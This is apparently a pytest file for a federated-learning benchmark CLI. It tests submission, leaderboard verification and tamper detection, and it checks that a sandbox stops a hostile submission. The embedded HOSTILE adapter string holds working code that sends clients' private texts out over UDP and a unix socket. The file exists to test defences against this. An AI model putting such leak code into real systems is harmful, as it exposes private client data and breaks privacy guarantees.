"""`fedsynth submit` runs a third-party adapter (the tutorial's docs/tutorials/example_adapter.py)
through a suite; its entries verify and rank."""

import json
import socket
import tarfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from benchmark.cli.main import cli

ADAPTER = str(Path(__file__).parents[1] / "docs" / "tutorials" / "example_adapter.py")


def test_submit_produces_shown_verifiable_entries(tmp_path):
    store = tmp_path / "results"
    bundle = tmp_path / "bundle.tar.gz"
    args = [
        "--results",
        str(store),
        "--runs",
        str(tmp_path / "runs"),
        "--splits",
        str(tmp_path / "splits"),
    ]
    unscheduled = CliRunner().invoke(cli, ["submit", ADAPTER, "--suite", "tiny", *args])
    assert unscheduled.exit_code != 0 and "Missing option '--call-seconds'" in unscheduled.output
    result = CliRunner().invoke(
        cli,
        ["submit", ADAPTER, "--suite", "tiny", "--call-seconds", "12", "--bundle", str(bundle)]
        + args,
    )
    assert result.exit_code == 0, result.output
    assert "method example_public_selection: 1 entries" in result.output

    shown = CliRunner().invoke(
        cli, ["leaderboard", "show", "--results", str(store), "--metric", "fid.fid", "--json"]
    )
    assert shown.exit_code == 0, shown.output
    [table] = json.loads(shown.output)
    [row] = table["rows"]
    # shown, but one seed is never ranked (a cell is ranked only with >= 3 seeds)
    assert row["method"] == "example_public_selection" and not row["eps=1"]["best"]

    verify = ["leaderboard", "verify", "--results", str(store)]
    refused = CliRunner().invoke(cli, verify)  # the submitter's key: not the repository's
    assert refused.exit_code != 0 and "not an accepted key" in refused.output
    verified = CliRunner().invoke(cli, [*verify, "--trust-host"])
    assert verified.exit_code == 0, verified.output

    with tarfile.open(bundle) as tar:
        names = tar.getnames()
    assert any("_manifests/" in n for n in names)
    assert any(n.startswith("_keys/") and n.endswith(".pub") for n in names)  # who signed
    [entry_name] = [n for n in names if "example_public_selection" in n]

    tampered = store / entry_name
    entry = json.loads(tampered.read_text())
    assert entry["spec"]["privacy"]["call_seconds"] == 12  # on the public schedule
    entry["privacy"]["delta"] = 0.5
    tampered.write_text(json.dumps(entry))
    rejected = CliRunner().invoke(cli, [*verify, "--trust-host"])
    assert rejected.exit_code != 0 and "integrity digest mismatch" in rejected.output


HOSTILE = '''
"""A hostile submission: its client code sends each client's texts over UDP to the host and
over an abstract unix socket to its own method process, which would release them."""
import socket

import numpy as np

from benchmark.api import METHODS, Artifact, Method

PORT = {port}
INBOX = b"\\0fedsynth-submitted"


def leak(client, payload):
    text = "\\n".join(client.texts).encode()[:60000]
    for family, target in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, INBOX)):
        try:
            socket.socket(family, socket.SOCK_DGRAM).sendto(text, target)
        except OSError:
            pass
    return np.zeros(1)


@METHODS.register("hostile_submission")
class Hostile(Method):
    name = "hostile_submission"
    artifact_kind = "texts"
    configs = {{p: {{}} for p in ("tiny", "cpu", "paper")}}

    def num_rounds(self):
        return 1

    def setup(self, ctx):
        return {{}}

    def round(self, ctx, state, round_index):
        try:
            inbox = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            inbox.bind(INBOX)
        except OSError as exc:
            inbox, state["got"] = None, [f"inbox refused: {{type(exc).__name__}}"]
        sigma = ctx.noise_for(steps=1)
        ctx.pool.aggregate(leak, None, dim=1, clip_norm=1.0, noise_multiplier=sigma, label="r")
        if inbox is not None:
            inbox.settimeout(0.5)
            try:
                state["got"] = [inbox.recv(65536).decode()]
            except OSError:
                state["got"] = ["nothing received"]
        return state

    def finish(self, ctx, state):
        return Artifact("texts", texts=state["got"])
'''


def test_a_hostile_submission_gets_nothing_out(tmp_path):
    """Issue 33's attacks were tried as a submitter would: through ``fedsynth submit`` on
    the tiny suite. Client code sends its texts to a listener on the host (shown to receive
    from here first) and to its method process: neither gets anything, the entry is made
    from what the method released, and the listener hears nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"probe", ("127.0.0.1", port))
        assert listener.recv(100) == b"probe"
        adapter = tmp_path / "hostile.py"
        adapter.write_text(HOSTILE.format(port=port))
        result = CliRunner().invoke(
            cli,
            ["submit", str(adapter), "--suite", "tiny", "--call-seconds", "12"]
            + ["--bundle", str(tmp_path / "bundle.tar.gz")]
            + ["--results", str(tmp_path / "results"), "--runs", str(tmp_path / "runs")]
            + ["--splits", str(tmp_path / "splits")],
        )
        assert result.exit_code == 0, result.output
        with pytest.raises(TimeoutError):
            listener.recv(1 << 16)
    [artifact] = (tmp_path / "runs").rglob("artifact.json")
    assert json.loads(artifact.read_text())["texts"] == ["inbox refused: PermissionError"]
